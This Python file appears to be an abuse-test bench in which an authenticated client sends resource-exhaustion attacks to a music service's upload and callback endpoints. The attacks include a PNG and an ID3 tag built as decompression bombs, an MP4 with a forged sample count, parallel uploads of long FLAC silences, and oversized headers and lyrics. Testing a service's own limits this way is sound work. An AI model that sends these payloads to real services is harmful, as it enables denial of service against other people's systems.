"""Attacks with files and texts by a client that has a key: what is small when it is sent and large when it is read."""

import itertools
import struct
import threading
import zlib
from pathlib import Path

import av
import numpy as np

from antiphon.music.audio import Writer
from bench.abuse.place import Place

LONG_S, LONG_RATE = 600, 192_000  # of a silence that is small as a file and long to decode
PARALLEL_UPLOADS = 12
BLOCK = 1 << 20  # samples


def nothing(place: Place) -> None:
    """No attack: what the others notice anyway."""
    for _ in range(3):
        place.upload(place.song, place.attacker)


def spaces_in_headers(place: Place) -> None:
    """50 kB of white space for the examination of a callback."""
    for _ in range(10):
        body = {"headers": "a:" + " " * 49_000 + "x", "body": "", "key": "whsec_" + "A" * 32}
        place.call("POST", "/callbacks/check", place.attacker, json=body)


def times_in_lyrics(place: Place) -> None:
    """99 kB of lyrics: thousands of times before thousands of words with times."""
    text = "[00:01.00]" * 5000 + "<00:01.00>a" * 4500
    song = place.upload(place.song, place.attacker, data={"lyrics": text})
    if song.status_code == 200:
        track = {name: song.json()["data"][name] for name in ("taskId", "audioId")}
        place.call("POST", "/generate/get-timestamped-lyrics", place.attacker, json=track)


def wide_cover(place: Place) -> None:
    """A PNG of 99,000,000 by 1 pixels."""
    cover = place.folder / "cover.png"
    write_png(cover, 99_000_000, 1)
    with cover.open("rb") as file:
        place.upload(place.song, place.attacker, files={"cover": ("cover.png", file)})


def compressed_tag(place: Place) -> None:
    """An ID3 frame of 1.9 MB that is 1.9 GB."""
    bomb = place.folder / "tag.mp3"
    song = place.folder / "song.mp3"
    _write_mp3(song)
    bomb.write_bytes(compressed_id3(1_900_000_000) + song.read_bytes())
    place.upload(bomb, place.attacker)


def many_samples(place: Place) -> None:
    """An MP4 of a few kilobytes whose index promises 80 million samples."""
    bomb = place.folder / "index.m4a"
    _write_m4a(bomb)
    bomb.write_bytes(with_sample_count(bomb.read_bytes(), 80_000_000))
    place.upload(bomb, place.attacker)


def long_silences(place: Place) -> None:
    """A dozen uploads at a time of small files that take long to decode."""
    bomb = place.folder / "silence.flac"
    with Writer(bomb, LONG_RATE, 2, "flac") as writer:
        for start in range(0, LONG_S * LONG_RATE, BLOCK):
            writer.write(np.zeros((min(BLOCK, LONG_S * LONG_RATE - start), 2), np.float32))
    threads = [threading.Thread(target=place.upload, args=(bomb, place.attacker)) for _ in range(PARALLEL_UPLOADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def write_png(path: Path, width: int, height: int) -> None:
    """A black picture of one bit a pixel."""
    row = b"\0" * (1 + (width + 7) // 8)
    pack = zlib.compressobj(9)
    data = b"".join(pack.compress(row) for _ in range(height)) + pack.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", data), (b"IEND", b""))
    parts = (
        struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        for name, content in chunks
    )
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"".join(parts))


def compressed_id3(size: int) -> bytes:
    """An ID3v2.4 tag of one text frame that is ``size`` bytes when it is unpacked."""
    pack = zlib.compressobj(9)
    blocks = itertools.repeat(b"\0" * BLOCK, size // BLOCK)
    packed = b"".join(map(pack.compress, blocks)) + pack.flush()
    compressed_with_length = b"\x00\x09"  # the frame's flags
    length = struct.pack(">I", size // BLOCK * BLOCK)
    frame = b"TIT2" + _seven_bits(len(packed) + 4) + compressed_with_length + length + packed
    return b"ID3\x04\x00\x00" + _seven_bits(len(frame)) + frame


def _seven_bits(number: int) -> bytes:
    """A size as ID3v2.4 writes it: four bytes of seven bits."""
    return bytes(number >> shift & 0x7F for shift in (21, 14, 7, 0))


def with_sample_count(content: bytes, count: int) -> bytes:
    """An MP4 whose sample table says ``count`` samples of one byte, each of 1024 ticks."""
    changed = bytearray(content)
    sizes = content.index(b"stsz") + 8
    struct.pack_into(">II", changed, sizes, 1, count)
    times = content.index(b"stts") + 8
    struct.pack_into(">III", changed, times, 1, count, 1024)
    chunks = content.index(b"stsc") + 8
    struct.pack_into(">IIII", changed, chunks, 1, 1, count, 1)
    return bytes(changed)


def _write_mp3(path: Path) -> None:
    with Writer(path, 44_100, 2, "mp3") as writer:
        writer.write(np.zeros((44_100 * 3, 2), np.float32))


def _write_m4a(path: Path) -> None:
    with av.open(str(path), "w", format="mp4") as output:
        track = output.add_stream("aac", rate=44_100, layout="stereo")
        frame = av.AudioFrame.from_ndarray(np.zeros((2, 44_100), np.float32), format="fltp", layout="stereo")
        frame.sample_rate, frame.pts = 44_100, 0
        output.mux(track.encode(frame))
        output.mux(track.encode(None))
